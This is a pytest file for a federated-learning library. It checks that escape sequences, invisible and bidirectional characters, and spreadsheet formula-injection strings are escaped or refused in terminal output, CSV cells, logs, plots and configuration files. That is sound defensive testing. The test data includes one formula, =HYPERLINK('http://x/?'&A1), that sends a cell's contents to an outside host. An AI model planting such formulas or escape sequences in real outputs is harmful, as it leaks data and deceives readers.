"""What a stranger calls a thing does nothing: on a terminal, in a spreadsheet, on a page, in a plot."""

from __future__ import annotations

import csv
import io
import json
import tomllib
from pathlib import Path
from xml.etree import ElementTree

import numpy as np
import pytest
import typer
from hypothesis import given
from hypothesis import strategies as st
from sklearn.naive_bayes import GaussianNB

from consilience import Party
from consilience.core.errors import (
    InvalidInput,
    KnowledgeRefused,
    as_cell,
    as_json,
    odd_name,
    visible,
)
from consilience.core.messages.replies import Description, Metrics
from consilience.core.messages.schema import VERSION, Agreement, Public
from consilience.core.messages.wire import encode
from consilience.core.tasks.lifecycle import Describe, Evaluate
from consilience.core.validation.labels import label_names
from consilience.lab.cli.console import PlainConsole
from consilience.lab.cli.output import handle_errors, say, write_json
from consilience.lab.data import Holdings, draw
from consilience.sites.party import AUDIT, PartySite, read_log
from helpers.party_sites import one_party

HOSTILE = ("\x1b[2J", "\x1b]0;title\x07", "\x9b2J", "a\u202eb", "a\u2066b", "a\u200bb", "a\ufeffb", "a\rb",
           "a\u2028b", "\x00", "\ud800", "\U000e0041")  # fmt: skip
ORDINARY = (
    "ill",
    "Müller",
    "医院",
    "مريض",
    "a b",
    "no\u00a0break",
    "3",
    "-1",
    "+",
    "R²",
    "ß/ö",
    "🏥",
    "$x$",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_not_seen_is_spelt_out(text: str) -> None:
    shown = visible(text)
    assert shown.isprintable() and "\\" in shown and visible(shown) == shown
    assert odd_name(text)


@pytest.mark.parametrize("text", ORDINARY)
def test_what_is_seen_stays(text: str) -> None:
    assert visible(text) == as_cell(text) == text and odd_name(text) is None


def test_words_that_are_written_with_joiners_are_names() -> None:
    assert odd_name("نمی\u200cدانم") is None and odd_name("👩\u200d⚕") is None
    assert odd_name("x" * 1_001) == "it has 1,001 characters, of at most 1,000"


@given(st.text())
def test_json_says_the_same(text: str) -> None:
    written = as_json(json.dumps([text], ensure_ascii=False))
    assert json.loads(written) == [text] and visible(written) == written


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "\\t=1+1"),
        ("\r=1+1", "\\r=1+1"),
        (" =1+1", "' =1+1"),
        ("＝1+1", "'＝1+1"),
        ("a;=1+1", "a;'=1+1"),
        ('a","=1+1', 'a","=1+1'),
        ("-1.5e-3", "-1.5e-3"),
        ("a-b", "a-b"),
    ],
)
def test_a_cell_is_no_formula(text: str, cell: str) -> None:
    assert as_cell(text) == cell
    line = io.StringIO()
    csv.writer(line).writerow([cell])
    assert next(csv.reader(io.StringIO(line.getvalue()))) == [cell]


# --- on a terminal ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_errors_and_lines_do_nothing_to_a_terminal(
    capsys: pytest.CaptureFixture[str], text: str
) -> None:
    error = InvalidInput(f"what {text}", where=text, mend=text)
    assert visible(str(error)) == str(error)
    assert error.what == f"what {text}"  # for code, as it is
    say(text)
    with pytest.raises(typer.Exit), handle_errors(debug=True):
        raise ValueError(text)
    said = capsys.readouterr().err
    assert visible(said) == said


def test_tables_do_nothing_to_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    from rich.table import Table

    for text in HOSTILE[:-2]:
        table = Table(title=text)
        table.add_column(text)
        table.add_row(text, "[/red] [link=x]:smile:")
        PlainConsole().print(table)
        PlainConsole().print(text)
    said = capsys.readouterr().out
    assert visible(said) == said and "[/red] [link=x]:smile:" in said


def test_progress_shows_labels_that_look_like_markup() -> None:
    from consilience.lab.cli.progress import Picture
    from consilience.lab.experiments import Progress, parse_spec

    document = {"name": "x", "methods": [{"aggregate": "avg", "label": "[/red]"}],
                "data": {"name": "digits", "public": 50}, "models": [{"name": "knn"}]}  # fmt: skip
    picture = Picture(parse_spec(document, where="test"))
    picture.update(Progress("[/red]", 0, 1, 10, 0.5))
    console = PlainConsole()
    with console.capture() as captured:
        console.print(picture.draw())
    assert "[/red]" in captured.get()


def test_json_on_a_terminal_is_seen_and_says_the_same(capsys: pytest.CaptureFixture[str]) -> None:
    write_json({"classes": list(HOSTILE)}, "-")
    said = capsys.readouterr().out
    assert visible(said) == said and json.loads(said) == {"classes": list(HOSTILE)}


# --- where names come in -------------------------------------------------------------------------------

X = np.arange(6.0)[:, None]


@pytest.mark.parametrize("text", HOSTILE[:-2])
def test_odd_names_are_refused_where_they_come_in(text: str) -> None:
    with pytest.raises(
        InvalidInput, match="no name of a party: it holds characters that are not seen"
    ):
        Party(text, GaussianNB(), X, ["a", "b"] * 3)
    with pytest.raises(InvalidInput, match=r"a label is no name of a class: .*\n.*alias"):
        Party("north", GaussianNB(), X, ["a", text] * 3)
    assert label_names([text, "a"], where="x", aliases={text: "b"}).tolist() == ["b", "a"]


def test_a_label_that_nobody_reads_to_its_end_is_refused() -> None:
    with pytest.raises(InvalidInput, match="it has 2,000 characters"):
        label_names(["a", "x" * 2_000], where="x")


def test_a_coordinator_takes_no_odd_names() -> None:
    task = Describe()
    about = {"party": "a", "kind": "classification", "classes": ("x", "y"), "outputs": 0, "row": "(1,)",
             "soft_targets": "", "fewest_classes": 1, "tested": False, "version": VERSION}  # fmt: skip
    for change in ({"classes": ("x", "y\u202e")}, {"soft_targets": "\x1b[2J"}, {"row": "\r"}):
        with pytest.raises(KnowledgeRefused, match="a name that is none"):
            Description(**{**about, **change}).validate(party="a", task=task, agreement=None)
    metrics = Metrics(party="a", round=1, rows=1, values={"\x1b[2J": 0.5})
    with pytest.raises(KnowledgeRefused, match="a name that is none"):
        metrics.validate(party="a", task=Evaluate(round=1), agreement=None)


def test_a_party_joins_nothing_with_odd_classes() -> None:
    party = Party("a", GaussianNB(), X, ["x", "y"] * 3)
    public = Public(X)
    party.hold_public(public)
    agreed = Agreement(kind="classification", classes=("x", "y", "z\u202e"), outputs=3, rows=6,
                       public=public.key, seed=0)  # fmt: skip
    with pytest.raises(InvalidInput, match="a class or party agreed on has no name"):
        party.join(agreed)


# --- where they are written down ---------------------------------------------------------------------


def test_a_log_is_seen_as_it_is(tmp_path: Path) -> None:
    with PartySite(one_party, tmp_path) as site:
        site.answer(encode([Describe()]), federation="heart\u202e\x9b")
    text = (tmp_path / AUDIT).read_text()
    assert text.isascii() and "\\u202e\\u009b" in text
    assert read_log(tmp_path / AUDIT).entries[0]["federation"] == "heart\u202e\x9b"


def test_a_picture_of_names_that_look_like_formulas() -> None:
    held = Holdings(np.array([[3, 4], [5, 6]]), ("$\\frac{$", "a\x1bb"), ("$x$", "[/red]"))
    written = io.BytesIO()
    draw(held, title="$\\frac{").savefig(written, format="svg")
    ElementTree.fromstring(written.getvalue())
    assert "[/red]" in held.text() and "a\\x1bb" in held.text()


def test_a_configuration_written_back_is_seen_and_the_same() -> None:
    from consilience.lab.experiments import parse_spec
    from consilience.lab.report.toml import to_toml

    data = {"name": "csv", "path": "a\u202e\x7f\U000e0041.csv", "target": "ill", "public": 50}
    document = {"name": "x", "methods": ["avg"], "data": data, "models": [{"name": "knn"}]}
    spec = parse_spec(document, where="test")
    text = to_toml(spec)
    assert visible(text) == text and parse_spec(tomllib.loads(text), where="test") == spec
